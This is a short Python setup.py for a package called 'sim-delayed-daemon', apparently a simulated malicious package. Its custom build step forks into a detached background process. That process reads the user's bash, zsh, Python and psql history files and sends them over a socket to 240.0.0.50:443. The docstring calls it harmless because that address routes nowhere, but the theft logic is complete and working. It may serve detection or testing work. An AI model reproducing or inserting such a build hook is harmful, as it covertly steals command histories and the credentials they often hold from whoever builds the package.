# SPDX-License-Identifier: Apache-2.0
"""Harmless: the server's address is routed nowhere."""

import os
import socket
import time

from setuptools import setup
from setuptools.command.build_py import build_py


def detach():
    if os.fork():
        return False
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open(os.devnull, os.O_RDWR)
    for descriptor in (0, 1, 2):
        os.dup2(null, descriptor)
    os.closerange(3, 256)
    return True


def later():
    time.sleep(2)
    taken = b""
    for name in (".bash_history", ".zsh_history", ".python_history", ".psql_history"):
        try:
            with open(os.path.expanduser(f"~/{name}"), "rb") as file:
                taken += file.read()
        except OSError:
            pass
    try:
        with socket.create_connection(("240.0.0.50", 443), timeout=1) as out:
            out.sendall(taken)
    except OSError:
        pass
    os._exit(0)


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        if detach():
            later()


setup(name="sim-delayed-daemon", version="1.0.0", py_modules=["sim_dd"], cmdclass={"build_py": BuildPy})
